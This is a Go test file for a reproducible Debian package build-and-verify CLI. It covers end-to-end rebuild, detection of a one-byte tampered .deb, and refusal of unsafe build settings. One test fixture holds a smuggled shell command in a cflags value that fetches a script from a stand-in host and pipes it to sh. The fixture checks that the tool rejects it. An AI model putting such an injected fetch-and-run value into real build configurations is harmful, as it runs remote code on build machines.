package cli

import (
	"encoding/json"
	"os"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/require"
)

// TestE2EBuildTwiceVerify runs the real CLI path: `build hello --opinion o3
// --twice` in podman (reproducible, signed claim stored), `verify` of the
// built .deb (SAFE TO INSTALL, reusing the build) and of a copy with one
// flipped byte (DO NOT INSTALL, exit 1). LEBOWSKI_E2E=1 runs it.
func TestE2EBuildTwiceVerify(t *testing.T) {
	if os.Getenv("LEBOWSKI_E2E") == "" {
		t.Skip("set LEBOWSKI_E2E=1 to run real podman rebuilds")
	}
	dd := t.TempDir()
	cache := os.Getenv("LEBOWSKI_TEST_CACHE")
	if cache == "" {
		cache = filepath.Join(dd, "cache")
	}
	code, out, errOut := run(t, dd, "--json", "build", "hello", "--opinion", "o3", "--twice", "--cache-dir", cache)
	require.Equal(t, ExitOK, code, "stderr: %s", errOut)
	var b buildOutput
	require.NoError(t, json.Unmarshal([]byte(out), &b))
	require.NotNil(t, b.Reproducible)
	require.True(t, *b.Reproducible)
	require.Equal(t, "2.10-3~o3+1", b.Version)
	require.NotEmpty(t, b.ClaimID)
	var deb string
	for _, a := range b.Artifacts {
		if a.Name == "hello_2.10-3~o3+1_amd64.deb" {
			deb = a.Path
		}
	}
	require.NotEmpty(t, deb, "artifacts: %+v", b.Artifacts)

	code, out, errOut = run(t, dd, "verify", deb, "--cache-dir", cache)
	require.Equal(t, ExitOK, code, "stdout %s\nstderr %s", out, errOut)
	require.Contains(t, out, "✓ Opinion definition hello/o3")
	require.Contains(t, out, "Decision: SAFE TO INSTALL")
	require.Contains(t, errOut, "reusing this node's build")

	data, err := os.ReadFile(deb)
	require.NoError(t, err)
	data[len(data)/2] ^= 0x01
	bad := filepath.Join(t.TempDir(), filepath.Base(deb))
	require.NoError(t, os.WriteFile(bad, data, 0o644))
	code, out, _ = run(t, dd, "verify", bad, "--cache-dir", cache)
	require.Equal(t, ExitMismatch, code, out)
	require.Contains(t, out, "ERROR: Hash mismatch!")
	require.Contains(t, out, "Decision: DO NOT INSTALL")

	code, out, _ = run(t, dd, "--json", "info", "hello")
	require.Equal(t, ExitOK, code)
	require.Contains(t, out, b.ClaimID)
}

func TestBuildRefusesUnsafeOpinionBeforePodman(t *testing.T) {
	dd := t.TempDir()
	ops := t.TempDir()
	require.NoError(t, os.MkdirAll(filepath.Join(ops, "hello"), 0o755))
	require.NoError(t, os.WriteFile(filepath.Join(ops, "hello", "evil.yaml"), []byte(`name: evil
package: hello
summary: evil
purity: pure-compilation
debian: {suite: bookworm, version: 2.10-3}
revision: 1
build:
  cflags: {append: ["-O2$(curl evil.example|sh)"]}
`), 0o644))
	code, _, errOut := run(t, dd, "--opinions", ops, "build", "hello", "--opinion", "evil", "--podman-url", "unix:///nonexistent.sock")
	require.Equal(t, ExitUsage, code, errOut)
	require.NotContains(t, errOut, "podman", "refused before podman is contacted")
}

func TestBuildWithoutPodmanIsEnvironmentError(t *testing.T) {
	code, _, errOut := run(t, t.TempDir(), "build", "hello", "--opinion", "o3", "--podman-url", "unix:///nonexistent.sock")
	require.Equal(t, ExitEnv, code, errOut)
	require.Contains(t, errOut, "Podman socket")
}
